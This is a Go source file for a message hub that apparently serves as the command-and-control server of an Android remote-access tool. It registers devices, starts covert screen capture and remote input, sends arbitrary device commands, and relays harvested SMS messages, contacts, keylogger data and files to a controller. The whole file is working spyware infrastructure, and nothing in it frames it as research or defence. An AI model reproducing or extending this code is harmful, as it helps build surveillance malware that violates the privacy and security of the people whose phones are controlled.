package hub

import (
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"time"

	"github.com/ercoshn4-droid/vnc-server/internal/protocol"
	"github.com/ercoshn4-droid/vnc-server/internal/transport"
)

var errUnknownType = errors.New("unknown message type")

// validate is the single gate for the drop-on-missing-field policy: a
// message that fails here is discarded with no reply. Tightening the
// policy later means changing this function, not the routing below.
func validate(msg protocol.Message) error {
	switch msg.Type {
	case protocol.TypeRegisterDevice,
		protocol.TypeStartVNC,
		protocol.TypeScreenUpdate,
		protocol.TypeVNCInput:
		if msg.DeviceID == "" {
			return fmt.Errorf("%s: missing device_id", msg.Type)
		}
	case protocol.TypeDeviceCommand:
		if msg.DeviceID == "" {
			return fmt.Errorf("%s: missing device_id", msg.Type)
		}
		if msg.Command == "" {
			return fmt.Errorf("%s: missing command", msg.Type)
		}
	case protocol.TypeCommandResponse,
		protocol.TypeSMSData,
		protocol.TypeContactData,
		protocol.TypeKeylogData,
		protocol.TypeFileData:
		if msg.ClientSocket == "" {
			return fmt.Errorf("%s: missing client_socket", msg.Type)
		}
	case protocol.TypeRegisterClient, protocol.TypePing:
	default:
		return fmt.Errorf("%w: %q", errUnknownType, msg.Type)
	}
	return nil
}

// Receive dispatches one inbound message from a connection. Malformed
// or unroutable messages are dropped without a reply; nothing a peer
// sends can surface an error back to it, and nothing here is fatal.
func (h *Hub) Receive(c transport.Handle, data []byte) {
	var msg protocol.Message
	if err := json.Unmarshal(data, &msg); err != nil {
		slog.Debug("dropping unparseable message", "handle", c, "err", err)
		return
	}
	if err := validate(msg); err != nil {
		slog.Debug("dropping message", "handle", c, "err", err)
		return
	}

	switch msg.Type {
	case protocol.TypeRegisterDevice:
		h.handleRegisterDevice(c, msg)
	case protocol.TypeRegisterClient:
		h.handleRegisterClient(c)
	case protocol.TypeStartVNC:
		h.handleStartVNC(c, msg)
	case protocol.TypeScreenUpdate:
		h.handleScreenUpdate(msg)
	case protocol.TypeVNCInput:
		h.handleVNCInput(msg)
	case protocol.TypeDeviceCommand:
		h.SendCommand(msg.DeviceID, msg.Command, msg.Payload, c)
	case protocol.TypeCommandResponse,
		protocol.TypeSMSData,
		protocol.TypeContactData,
		protocol.TypeKeylogData,
		protocol.TypeFileData:
		h.handleBulkReply(msg)
	case protocol.TypePing:
		h.handlePing(c)
	}
}

// handleRegisterDevice processes an in-band device role declaration:
// the connection joins the device's topic group and the registry record
// is created or overwritten. Re-declarations are not deduplicated; a
// connection that declares several device identities joins several
// groups.
func (h *Hub) handleRegisterDevice(c transport.Handle, msg protocol.Message) {
	h.bus.Join(c, deviceGroup(msg.DeviceID))
	h.setRole(c, roleDevice)
	attrs := DeviceAttrs{
		Name:           msg.DeviceName,
		AndroidVersion: msg.AndroidVersion,
		IPAddress:      msg.IPAddress,
	}
	if err := h.RegisterDevice(msg.DeviceID, attrs, c); err != nil {
		slog.Debug("dropping registration", "handle", c, "err", err)
	}
}

// handleRegisterClient processes a controller role declaration: the
// connection joins the controllers group and is sent the current
// registry snapshot.
func (h *Hub) handleRegisterClient(c transport.Handle) {
	h.bus.Join(c, controllersGroup)
	h.setRole(c, roleController)
	slog.Info("controller registered", "handle", c)

	devices := h.registry.List()
	infos := make([]protocol.DeviceInfo, 0, len(devices))
	for _, d := range devices {
		infos = append(infos, d.Info())
	}
	if err := h.bus.SendTo(c, protocol.Message{
		Type:    protocol.TypeDeviceList,
		Devices: infos,
	}); err != nil {
		slog.Debug("dropping device list", "handle", c, "err", err)
	}
}

// handleStartVNC starts (or silently replaces) the device's session and
// instructs the device to begin capture, carrying the controller handle
// so the device knows where its frames will be streamed.
func (h *Hub) handleStartVNC(c transport.Handle, msg protocol.Message) {
	h.sessions.Start(msg.DeviceID, c)
	slog.Info("session started", "device_id", msg.DeviceID, "controller", c)
	h.bus.Publish(deviceGroup(msg.DeviceID), protocol.Message{
		Type:         protocol.TypeStartCapture,
		DeviceID:     msg.DeviceID,
		ClientSocket: string(c),
	})
}

// handleScreenUpdate routes a frame to the controller of the device's
// current session, preserving the device's own timestamp. A frame for a
// device with no session is dropped.
func (h *Hub) handleScreenUpdate(msg protocol.Message) {
	sess, ok := h.sessions.Lookup(msg.DeviceID)
	if !ok {
		slog.Debug("dropping frame without session", "device_id", msg.DeviceID)
		return
	}
	if err := h.bus.SendTo(sess.Controller, protocol.Message{
		Type:      protocol.TypeScreenData,
		DeviceID:  msg.DeviceID,
		Image:     msg.ImageData,
		Timestamp: msg.Timestamp,
	}); err != nil {
		slog.Debug("dropping frame", "device_id", msg.DeviceID, "err", err)
	}
}

// handleVNCInput forwards a controller input event to the device's
// topic group, re-typed and stamped with the hub's clock rather than
// the sender's.
func (h *Hub) handleVNCInput(msg protocol.Message) {
	h.bus.Publish(deviceGroup(msg.DeviceID), protocol.Message{
		Type:      protocol.TypeVNCEvent,
		DeviceID:  msg.DeviceID,
		Event:     msg.Event,
		Timestamp: time.Now().UnixMilli(),
	})
}

// handleBulkReply routes a command result or bulk data payload to the
// connection named by the inbound client_socket field, forwarding the
// body unchanged. There is no fallback lookup: validate has already
// rejected bodies without the field, and an unaddressable handle just
// drops the message.
func (h *Hub) handleBulkReply(msg protocol.Message) {
	if err := h.bus.SendTo(transport.Handle(msg.ClientSocket), msg); err != nil {
		slog.Debug("dropping reply", "type", msg.Type, "client_socket", msg.ClientSocket, "err", err)
	}
}

// handlePing answers a liveness probe directly; no state changes.
func (h *Hub) handlePing(c transport.Handle) {
	if err := h.bus.SendTo(c, protocol.Message{
		Type:      protocol.TypePong,
		Timestamp: time.Now().UnixMilli(),
	}); err != nil {
		slog.Debug("dropping pong", "handle", c, "err", err)
	}
}
